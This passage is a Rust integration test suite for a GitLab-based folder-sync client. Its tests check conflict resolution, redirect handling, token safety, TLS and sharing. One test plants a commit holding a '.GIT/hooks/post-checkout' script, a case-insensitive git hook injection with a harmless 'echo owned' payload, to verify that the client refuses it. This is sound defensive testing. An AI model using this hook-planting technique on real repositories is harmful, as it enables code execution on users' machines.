    // A version holding `.GIT/hooks/post-checkout` (a file git runs, on a
    // system that does not tell cases apart) appears on the server. GitLab
    // checks what is pushed (fsck refuses it, as the stand-in does), so it
    // is put there behind git's back: by an import, a restored backup, or a
    // server that does not check.
    let script = "set -e
        cd /var/opt/gitlab/git-data/repositories/alice/tools.git
        export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'
        export GIT_AUTHOR_NAME=bob GIT_AUTHOR_EMAIL=bob@example.org
        export GIT_COMMITTER_NAME=bob GIT_COMMITTER_EMAIL=bob@example.org
        blob=$(printf '#!/bin/sh\\necho owned\\n' | git hash-object -w --stdin)
        hooks=$(printf '100755 blob %s\\tpost-checkout\\n' $blob | git mktree)
        dotgit=$(printf '040000 tree %s\\thooks\\n' $hooks | git mktree)
        tree=$( (git ls-tree main; printf '040000 tree %s\\t.GIT\\n' $dotgit) | git mktree)
        commit=$(git commit-tree $tree -p main -m 'hooks')
        git update-ref refs/heads/main $commit
        chown -R 998:998 .";
    let output = Command::new("docker")
        .args(["exec", &t.server.container, "sh", "-c", script])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );

    let before = contents(&t.tools);
    let run = t.laptop1.run_in(&t.tools, &["sync"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr.contains(
            "the server's version of alice/tools holds 1 file that cannot be put in a folder, \
             so nothing of it was written and your folder is as it was: \
             .GIT/hooks/post-checkout (its name is kept for the folder's history)"
        ),
        "{}",
        run.stderr
    );
    assert_eq!(contents(&t.tools), before);
    // Nor is it brought to a new machine.
    let laptop2 = t.server.machine("alice", "laptop-2");
    let run = laptop2.run(&["get", "tools"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr
            .contains(".GIT/hooks/post-checkout (its name is kept"),
        "{}",
        run.stderr
    );
    assert!(!laptop2.folder("Tools").exists());
}

#[test]
fn resolve_on_a_terminal_asks_file_by_file() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");
    let report = laptop1.folder("Report");
    write(&report, "x.txt", "x first\n");
    write(&report, "y.txt", "y first\n");
    laptop1.run(&["new", "Report"]).expect_code(0);
    laptop2.run(&["get", "report"]).expect_code(0);
    let here = laptop2.folder("Report");
    write(&here, "x.txt", "x from laptop-2\n");
    write(&here, "y.txt", "y from laptop-2\n");
    laptop2.run_in(&here, &["sync"]).expect_code(0);

    // Both changed the same files; laptop-1 is asked to bring them together.
    write(&report, "x.txt", "x from laptop-1\n");
    write(&report, "y.txt", "y from laptop-1\n");
    let run = laptop1.run_in(&report, &["sync"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr.contains("girofle-client resolve"),
        "{}",
        run.stderr
    );

    // On a terminal (script(1) gives it one), it asks for each file.
    let mut child = laptop1
        .command_for(Path::new("script"), &report)
        .arg("-qec")
        .arg(format!("{} resolve", client_binary().display()))
        .arg("/dev/null")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(b"mine\nb\n").unwrap();
    let run = Run::from(child.wait_with_output().unwrap()).expect_code(0);
    assert!(
        run.stdout
            .contains("x.txt differs. Keep (m)ine, the (s)erver's, or (b)oth?"),
        "{}",
        run.stdout
    );
    plain(&run);
    laptop1.run_in(&report, &["sync"]).expect_code(0);
    laptop2.run_in(&here, &["sync"]).expect_code(0);
    assert_eq!(
        contents(&here),
        vec![
            ("x.txt".to_string(), "x from laptop-1\n".to_string()),
            (
                "y (from laptop-1).txt".to_string(),
                "y from laptop-1\n".to_string()
            ),
            ("y.txt".to_string(), "y from laptop-2\n".to_string()),
        ]
    );
}

/// A small HTTP server on this machine: it records the head of every
/// request and answers what `answer` makes of it (status, extra header
/// lines, body).
struct Listener {
    port: u16,
    heard: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Listener {
    fn start(
        address: &str,
        answer: impl Fn(&str) -> (u16, String, String) + Send + 'static,
    ) -> Listener {
        use std::io::Read;
        let listener = std::net::TcpListener::bind(address).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let record = std::sync::Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") {
                    match stream.read(&mut byte) {
                        Ok(1) => head.push(byte[0]),
                        _ => break,
                    }
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                // The body, if any, is not needed; it is read so that closing
                // does not reset the connection.
                let length: usize = head
                    .lines()
                    .find_map(|line| {
                        let (name, value) = line.split_once(':')?;
                        name.eq_ignore_ascii_case("content-length")
                            .then(|| value.trim().parse().ok())?
                    })
                    .unwrap_or(0);
                let mut body = vec![0u8; length];
                let _ = stream.read_exact(&mut body);
                let (status, headers, body) = answer(&head);
                record.lock().unwrap().push(head);
                let _ = stream.write_all(
                    format!(
                        "HTTP/1.1 {status} X\r\n{headers}Content-Type: application/json\r\n\
                         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    )
                    .as_bytes(),
                );
            }
        });
        Listener { port, heard }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }
}

/// The path a request head asks for.
fn asked(head: &str) -> String {
    head.split(' ').nth(1).unwrap_or("").to_string()
}

/// What a GitLab answers to the calls `setup` and `share` make.
fn gitlab_answer(head: &str) -> (u16, String, String) {
    let path = asked(head);
    let body = if path.starts_with("/api/v4/user") && !path.starts_with("/api/v4/users") {
        r#"{"id": 9, "username": "mallory", "name": "Mallory"}"#
    } else if path.starts_with("/api/v4/users?") {
        r#"[{"id": 2, "username": "bob", "name": "Bob"}]"#
    } else if path.starts_with("/api/v4/projects/alice%2Freport") {
        r#"{"id": 1, "name": "Report", "path": "report", "path_with_namespace": "alice/report", "topics": ["girofle"]}"#
    } else {
        "[]"
    };
    (200, String::new(), body.to_string())
}

#[test]
fn a_server_that_sends_the_client_elsewhere_is_not_followed_and_the_token_stays() {
    // Where the redirects point: it answers as a GitLab would.
    let elsewhere = Listener::start("127.0.0.1:0", gitlab_answer);
    let new = format!("http://127.0.0.1:{}", elsewhere.port);
    let to = new.clone();
    let moving = Listener::start("127.0.0.1:0", move |head| {
        // 302 for setup's question, 301 (as from http to https) for the rest.
        let status = if asked(head) == "/api/v4/user" {
            302
        } else {
            301
        };
        (
            status,
            format!("Location: {to}{}\r\n", asked(head)),
            String::new(),
        )
    });
    let old = format!("http://127.0.0.1:{}", moving.port);
    let machine = Machine::fresh();
    let home = machine.home.clone();
    let moved = format!("the server moved to {new}; run `girofle-client setup --server {new}`");

    let run = machine.run_with_input(
        &["setup", "--server", &old, "--token-stdin", "--machine", "m"],
        "glpat-secret-4242\n",
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains(&moved), "{}", run.stderr);
    assert!(
        !home.join(".config/girofle/client.toml").exists(),
        "nothing set up"
    );

    // A machine set up before the server moved: sharing is not reported
    // done when the server was never asked.
    std::fs::create_dir_all(home.join(".config/girofle")).unwrap();
    std::fs::write(home.join(".config/girofle/token"), "glpat-secret-4242\n").unwrap();
    std::fs::write(
        home.join(".config/girofle/client.toml"),
        format!(
            "server = \"{old}\"\ntoken_file = \"{}\"\nmachine = \"m\"\nperson = \"alice\"\n",
            home.join(".config/girofle/token").display()
        ),
    )
    .unwrap();
    let run = machine.run(&["share", "alice/report", "bob"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains(&moved), "{}", run.stderr);
    assert!(!run.stderr.contains("may now get"), "{}", run.stderr);
    let run = machine.run(&["get"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains(&moved), "{}", run.stderr);

    let heard = elsewhere.heard();
    assert!(
        heard.iter().all(|head| !head.contains("glpat-secret-4242")),
        "the token went to the new address: {heard:?}"
    );
    assert!(heard.is_empty(), "the client followed: {heard:?}");
    assert_eq!(moving.heard().len(), 3, "{:?}", moving.heard());
}

#[test]
fn setup_refuses_plain_http_to_another_machine_unless_told() {
    // A server at an address that is not loopback (0.0.0.0 reaches this
    // machine, yet is no loopback address).
    let server = Listener::start("0.0.0.0:0", gitlab_answer);
    let url = format!("http://0.0.0.0:{}", server.port);
    let machine = Machine::fresh();
    let home = machine.home.clone();
    let config = home.join(".config/girofle/client.toml");
    // The token in a file: the refusal comes before any is read.
    let token = home.join("token");
    std::fs::write(&token, "glpat-secret-4242\n").unwrap();
    let token = token.display().to_string();
    for far in [url.as_str(), "http://gitlab.example.org"] {
        let run = machine.run(&[
            "setup",
            "--server",
            far,
            "--token-file",
            &token,
            "--machine",
            "m",
        ]);
        assert_eq!(run.code, 2, "{far}: {}", run.stderr);
        assert!(
            run.stderr.contains("is not encrypted") && run.stderr.contains("--insecure-http"),
            "{}",
            run.stderr
        );
        assert!(!config.exists(), "nothing set up");
    }
    assert!(server.heard().is_empty(), "the token was not sent");

    let run = machine.run_with_input(
        &[
            "setup",
            "--server",
            &url,
            "--token-stdin",
            "--machine",
            "m",
            "--insecure-http",
        ],
        "glpat-secret-4242\n",
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(std::fs::read_to_string(&config).unwrap().contains(&url));
}

/// A TLS front for `backend` on 127.0.0.1, with the certificate and key
/// given (PEM): a server behind an organisation's own authority.
fn tls_front(cert: &Path, key: &Path, backend: String) -> u16 {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer};
    use std::io::{ErrorKind, Read};
    let certs: Vec<CertificateDer<'static>> = CertificateDer::pem_file_iter(cert)
        .unwrap()
        .map(|c| c.unwrap())
        .collect();
    let key = PrivateKeyDer::from_pem_file(key).unwrap();
    let config = std::sync::Arc::new(
        rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(certs, key)
        .unwrap(),
    );
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for tcp in listener.incoming() {
            let Ok(tcp) = tcp else { continue };
            let config = std::sync::Arc::clone(&config);
            let backend = backend.clone();
            std::thread::spawn(move || {
                let Ok(mut plain) = std::net::TcpStream::connect(&backend) else {
                    return;
                };
                let tick = Some(std::time::Duration::from_millis(5));
                let _ = tcp.set_read_timeout(tick);
                let _ = plain.set_read_timeout(tick);
                let connection = rustls::ServerConnection::new(config).unwrap();
                let mut tls = rustls::StreamOwned::new(connection, tcp);
                let mut buffer = [0u8; 16384];
                let idle = |e: &std::io::Error| {
                    matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut)
                };
                loop {
                    match tls.read(&mut buffer) {
                        Ok(0) => break,
                        Ok(n) => {
                            if plain.write_all(&buffer[..n]).is_err() {
                                break;
                            }
                        }
                        Err(e) if idle(&e) => {}
                        Err(_) => break,
                    }
                    match plain.read(&mut buffer) {
                        Ok(0) => {
                            tls.conn.send_close_notify();
                            let _ = tls.flush();
                            break;
                        }
                        Ok(n) => {
                            if tls
                                .write_all(&buffer[..n])
                                .and_then(|_| tls.flush())
                                .is_err()
                            {
                                break;
                            }
                        }
                        Err(e) if idle(&e) => {}
                        Err(_) => break,
                    }
                }
            });
        }
    });
    port
}

#[test]
fn a_server_signed_by_a_private_authority_works_with_ca_file_for_the_api_and_git() {
    let server = Server::with_users();
    let keys = tempfile::tempdir().unwrap();
    let openssl = |args: &[&str]| {
        let output = Command::new("openssl")
            .args(args)
            .current_dir(keys.path())
            .output()
            .expect("openssl");
        assert!(
            output.status.success(),
            "openssl {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    };
    std::fs::write(
        keys.path().join("server.ext"),
        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\n",
    )
    .unwrap();
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
    ];
    openssl(
        &[
            &["req", "-x509"][..],
            &ec,
            &["-keyout", "ca.key", "-out", "ca.pem", "-days", "2"],
            &["-subj", "/CN=Girofle test authority"],
        ]
        .concat(),
    );
    openssl(
        &[
            &["req"][..],
            &ec,
            &["-keyout", "server.key", "-out", "server.csr"],
            &["-subj", "/CN=127.0.0.1"],
        ]
        .concat(),
    );
    openssl(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "server.pem",
        "-days",
        "2",
        "-extfile",
        "server.ext",
    ]);
    let backend = server.url.trim_start_matches("http://").to_string();
    let port = tls_front(
        &keys.path().join("server.pem"),
        &keys.path().join("server.key"),
        backend,
    );
    let url = format!("https://127.0.0.1:{port}");
    let ca = keys.path().join("ca.pem").display().to_string();

    let machine = |name: &str| {
        let machine = Machine::fresh();
        // Not known to this system: refused, the authority unknown.
        let run = machine.run_with_input(
            &[
                "setup",
                "--server",
                &url,
                "--token-stdin",
                "--machine",
                name,
            ],
            "glpat-alice-0001\n",
        );
        assert_eq!(run.code, 1, "{}", run.stderr);
        assert!(
            run.stderr.contains("cannot be reached") && run.stderr.contains("Issuer"),
            "{}",
            run.stderr
        );
        let run = machine.run_with_input(
            &[
                "setup",
                "--server",
                &url,
                "--token-stdin",
                "--machine",
                name,
                "--ca-file",
                &ca,
            ],
            "glpat-alice-0001\n",
        );
        assert_eq!(run.code, 0, "{}", run.stderr);
        machine
    };
    let laptop1 = machine("laptop-1");
    let laptop2 = machine("laptop-2");
    let report = laptop1.folder("Report");
    write(&report, "plan.txt", "over https\n");
    laptop1.run(&["new", "Report"]).expect_code(0);
    laptop2.run(&["get", "report"]).expect_code(0);
    assert_eq!(read(&laptop2.folder("Report"), "plan.txt"), "over https\n");
    let status = laptop2
        .run_in(&laptop2.folder("Report"), &["status"])
        .expect_code(0);
    assert!(
        status
            .stdout
            .contains("The server has nothing this machine lacks."),
        "{}",
        status.stdout
    );
}

#[test]
fn git_does_not_follow_a_server_that_moved() {
    let elsewhere = Listener::start("127.0.0.1:0", gitlab_answer);
    let to = format!("http://127.0.0.1:{}", elsewhere.port);
    let moving = Listener::start("127.0.0.1:0", move |head| {
        (
            301,
            format!("Location: {to}{}\r\n", asked(head)),
            String::new(),
        )
    });
    let dir = tempfile::tempdir().unwrap();
    let git = girofle_client::git::Git::new(
        &dir.path().join("history"),
        dir.path(),
        "Alice",
        "alice@example.org",
    )
    .with_token("glpat-secret-4242");
    let output = git
        .output(&[
            "ls-remote",
            &format!("http://127.0.0.1:{}/alice/report.git", moving.port),
        ])
        .unwrap();
    assert!(!output.ok, "{}", output.stderr);
    assert_eq!(moving.heard().len(), 1, "{:?}", moving.heard());
    assert!(
        moving.heard()[0].contains("Authorization: Basic"),
        "the token went to the server named"
    );
    let heard = elsewhere.heard();
    assert!(
        heard.is_empty(),
        "git followed the server elsewhere: {heard:?}"
    );
}

/// No JSON, no HTTP status: sentences.
fn sentences(run: &Run) {
    plain(run);
    for sign in ["{", "}", "\"message\"", "answered 400"] {
        assert!(
            !run.stderr.contains(sign),
            "{sign:?} shown:\n{}",
            run.stderr
        );
    }
}

#[test]
fn any_folder_name_makes_a_folder_gitlab_takes_and_keeps_its_name() {
    let server = Server::with_users();
    // Someone used the topic first, spelled otherwise: GitLab gives it back so.
    let (status, json) = server.api(
        "carol",
        "POST",
        "/projects",
        "name=Elsewhere&path=elsewhere&topics[]=Girofle",
    );
    assert_eq!(status, 201, "{json}");
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");
    let names = [
        ("Rapport d'activité", "alice/rapport-d-activite"),
        ("Budget (2024)", "alice/budget-2024"),
        ("Q&A", "alice/q-a"),
        ("Mr. Smith", "alice/mr-smith"),
        ("Files", "alice/files-folder"),
        ("Bilan été 2026", "alice/bilan-ete-2026"),
        ("🫠 notes__2024", "alice/notes-2024"),
    ];
    for (name, _) in names {
        write(&laptop1.folder(name), "a.txt", name);
        let run = laptop1.run(&["new", name]).expect_code(0);
        sentences(&run);
    }
    // Another folder of the same name elsewhere: numbered on the server.
    let work = laptop1.home.join("Work");
    write(&work.join("Files"), "b.txt", "work files\n");
    let run = laptop1.run_in(&work, &["new", "Files"]).expect_code(0);
    sentences(&run);
    assert!(
        run.stderr.contains(
            "You already have a folder named \"Files\" on the server: this one is alice/files-folder-2 there."
        ),
        "{}",
        run.stderr
    );
    let listed = laptop2.run(&["get"]).expect_code(0);
    for (name, path) in names {
        assert!(
            listed.stdout.contains(&format!("{path} ({name})\n")),
            "{path} ({name}) not in:\n{}",
            listed.stdout
        );
    }
    // Brought to another machine under the name it had.
    laptop2.run(&["get", "Rapport d'activité"]).expect_code(0);
    assert_eq!(
        read(&laptop2.folder("Rapport d'activité"), "a.txt"),
        "Rapport d'activité"
    );
    laptop2.run(&["get", "alice/bilan-ete-2026"]).expect_code(0);
    assert!(laptop2.folder("Bilan été 2026").join("a.txt").is_file());
}

#[test]
fn share_raises_a_developer_and_a_refused_sending_is_explained() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let desk = server.machine("bob", "desk");
    let plan = laptop1.folder("Plan");
    write(&plan, "plan.txt", "alice's plan\n");
    laptop1.run(&["new", "Plan"]).expect_code(0);
    // alice added bob as Developer on GitLab's own page.
    let (status, json) = server.api("alice", "GET", "/projects/alice%2Fplan", "");
    assert_eq!(status, 200, "{json}");
    let id = json["id"].as_u64().unwrap();
    let (status, json) = server.api(
        "alice",
        "POST",
        &format!("/projects/{id}/members"),
        "user_id=2&access_level=30",
    );
    assert_eq!(status, 201, "{json}");

    desk.run(&["get", "plan"]).expect_code(0);
    write(&desk.folder("Plan"), "plan.txt", "bob's plan\n");
    let refused = desk.run_in(&desk.folder("Plan"), &["sync"]).expect_code(1);
    sentences(&refused);
    assert!(
        refused.stderr.contains(
            "the server refused your new versions of alice/plan: your rights on this folder are \
             too low to send versions to it (you may only read it). alice, who owns it, can raise \
             them by sharing the folder with you (bob) again."
        ),
        "{}",
        refused.stderr
    );

    let shared = laptop1.run(&["share", "Plan", "bob"]).expect_code(0);
    sentences(&shared);
    assert!(
        shared.stderr.contains(
            "bob could already get alice/plan but not send versions to it; \
             bob is now a Maintainer of it and may."
        ),
        "{}",
        shared.stderr
    );
    desk.run_in(&desk.folder("Plan"), &["sync"]).expect_code(0);
    laptop1.run_in(&plan, &["sync"]).expect_code(0);
    assert_eq!(read(&plan, "plan.txt"), "bob's plan\n");
    let again = laptop1.run(&["share", "Plan", "bob"]).expect_code(0);
    assert!(
        again.stderr.contains("bob could already get alice/plan."),
        "{}",
        again.stderr
    );
}

/// A `git` that behaves as one older than 2.31: `GIT_CONFIG_COUNT` and its
/// pairs never reach it.
fn old_git(dir: &Path) -> PathBuf {
    let bin = dir.join("old-git");
    std::fs::create_dir_all(&bin).unwrap();
    let script = "#!/bin/sh\n\
        unset GIT_CONFIG_COUNT\n\
        for i in 0 1 2 3 4 5 6 7 8 9; do unset GIT_CONFIG_KEY_$i GIT_CONFIG_VALUE_$i; done\n\
        exec /usr/bin/git \"$@\"\n";
    std::fs::write(bin.join("git"), script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(bin.join("git"), std::fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

#[test]
fn a_git_older_than_2_31_still_sends_the_token_and_one_too_old_is_refused() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let bin = old_git(&laptop1.home);
    let notes = laptop1.folder("Notes");
    write(&notes, "n.txt", "first\n");
    let run = laptop1.run_with_git(&bin, &laptop1.documents, &["new", "Notes"]);
    let run = run.expect_code(0);
    sentences(&run);
    write(&notes, "n.txt", "second\n");
    laptop1.run_with_git(&bin, &notes, &["sync"]).expect_code(0);
    // The versions are on the server: another machine gets them.
    let laptop2 = server.machine("alice", "laptop-2");
    laptop2.run(&["get", "notes"]).expect_code(0);
    assert_eq!(read(&laptop2.folder("Notes"), "n.txt"), "second\n");
    // The token never went into the person's credential store.
    assert!(!laptop1.home.join(".git-credentials").exists());

    // A git older than 2.20 is named and refused at setup, nothing written.
    let ancient = laptop1.home.join("ancient");
    std::fs::create_dir_all(&ancient).unwrap();
    std::fs::write(
        ancient.join("git"),
        "#!/bin/sh\necho 'git version 2.19.1'\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(ancient.join("git"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let config = laptop1.home.join("other.toml");
    let mut child = laptop1
        .command(&laptop1.documents)
        .env("PATH", format!("{}:/usr/bin:/bin", ancient.display()))
        .args([
            "--config",
            config.to_str().unwrap(),
            "setup",
            "--server",
            &server.url,
        ])
        .args(["--token-stdin", "--machine", "laptop-9"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"glpat-alice-0001\n")
        .unwrap();
    let run = Run::from(child.wait_with_output().unwrap()).expect_code(1);
    assert!(
        run.stderr
            .contains("git 2.19.1 is too old: girofle-client needs git 2.20 or newer"),
        "{}",
        run.stderr
    );
    assert!(!config.exists());
}

#[test]
fn a_user_name_git_refuses_in_a_ref_still_keeps_folders() {
    let server = Server::with_users();
    let laptop = server.machine("eve.lock", "laptop");
    let notes = laptop.folder("Notes");
    write(&notes, "n.txt", "first\n");
    sentences(&laptop.run(&["new", "Notes"]).expect_code(0));
    write(&notes, "n.txt", "second\n");
    laptop.run_in(&notes, &["sync"]).expect_code(0);
    let desk = server.machine("eve.lock", "desk");
    desk.run(&["get", "notes"]).expect_code(0);
    assert_eq!(read(&desk.folder("Notes"), "n.txt"), "second\n");
    // Each machine's state is known to the other: desk's unsent change blocks laptop's get.
    write(&desk.folder("Notes"), "n.txt", "desk's\n");
    desk.run_in(&desk.folder("Notes"), &["status"])
        .expect_code(0);
    let status = laptop.run_in(&notes, &["status"]).expect_code(0);
    assert!(
        status.stdout.contains("Not sent yet: your changes on desk"),
        "{}",
        status.stdout
    );
}

#[test]
fn keep_after_a_stopped_sync_brings_the_two_together_itself() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");
    let plan = laptop1.folder("Plan");
    write(&plan, "plan.odt", "first\n");
    laptop1.run(&["new", "Plan"]).expect_code(0);
    laptop2.run(&["get", "plan"]).expect_code(0);
    let there = laptop2.folder("Plan");
    write(&plan, "plan.odt", "laptop-1's\n");
    laptop1.run_in(&plan, &["sync"]).expect_code(0);
    write(&there, "plan.odt", "laptop-2's\n");
    laptop2.run_in(&there, &["save"]).expect_code(0);
    let stopped = laptop2.run_in(&there, &["sync"]).expect_code(1);
    assert!(
        stopped.stderr.contains("run `girofle-client resolve`"),
        "{}",
        stopped.stderr
    );

    // As the README says, straight away.
    let kept = laptop2
        .run_in(&there, &["resolve", "--keep", "both", "plan.odt"])
        .expect_code(0);
    sentences(&kept);
    assert!(
        kept.stderr.contains("1 file differs from the server's"),
        "{}",
        kept.stderr
    );
    assert!(
        kept.stderr.contains("plan.odt: kept both"),
        "{}",
        kept.stderr
    );
    assert_eq!(read(&there, "plan.odt"), "laptop-1's\n");
    assert_eq!(read(&there, "plan (from laptop-2).odt"), "laptop-2's\n");
    laptop2.run_in(&there, &["sync"]).expect_code(0);
}

#[test]
fn install_client_refuses_a_git_too_old_and_installs_nothing() {
    let root = tempfile::tempdir().unwrap();
    let kit = root.path().join("kit");
    std::fs::create_dir_all(kit.join("dist")).unwrap();
    let script = kit.join("install-client.sh");
    std::fs::copy(project().join("install-client.sh"), &script).unwrap();
    std::fs::copy(client_binary(), kit.join("dist/girofle-client")).unwrap();
    let ancient = root.path().join("ancient");
    std::fs::create_dir_all(&ancient).unwrap();
    std::fs::write(
        ancient.join("git"),
        "#!/bin/sh\necho 'git version 2.19.1'\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(ancient.join("git"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let home = root.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let run = Run::from(
        Command::new("sh")
            .arg(&script)
            .args(["--server", "https://gitlab.example.org", "--token-stdin"])
            .env("HOME", &home)
            .env("PATH", format!("{}:/usr/bin:/bin", ancient.display()))
            .stdin(Stdio::null())
            .output()
            .unwrap(),
    )
    .expect_code(1);
    assert!(
        run.stderr.contains(
            "git 2.19.1 is too old: girofle-client needs git 2.20 or newer. Install a newer git, \
             then run this again. Nothing was installed."
        ),
        "{}",
        run.stderr
    );
    assert!(!home.join(".local/bin/girofle-client").exists());
}

#[test]
fn folders_are_found_whatever_the_case_their_topic_was_first_given() {
    let server = Server::with_users();
    // carol used the topic first, spelled `Girofle`: GitLab keeps that
    // spelling for everyone's projects, and finds the topic by it only.
    let (status, json) = server.api(
        "carol",
        "POST",
        "/projects",
        "name=Hers&path=hers&topics[]=Girofle",
    );
    assert_eq!(status, 201, "{json}");
    let laptop1 = server.machine("alice", "laptop-1");
    write(&laptop1.folder("Report"), "a.txt", "a\n");
    laptop1.run(&["new", "Report"]).expect_code(0);
    let laptop2 = server.machine("alice", "laptop-2");
    let listed = laptop2.run(&["get"]).expect_code(0);
    assert_eq!(listed.stdout.trim(), "alice/report");
    laptop2.run(&["get", "report"]).expect_code(0);
    assert_eq!(read(&laptop2.folder("Report"), "a.txt"), "a\n");
}
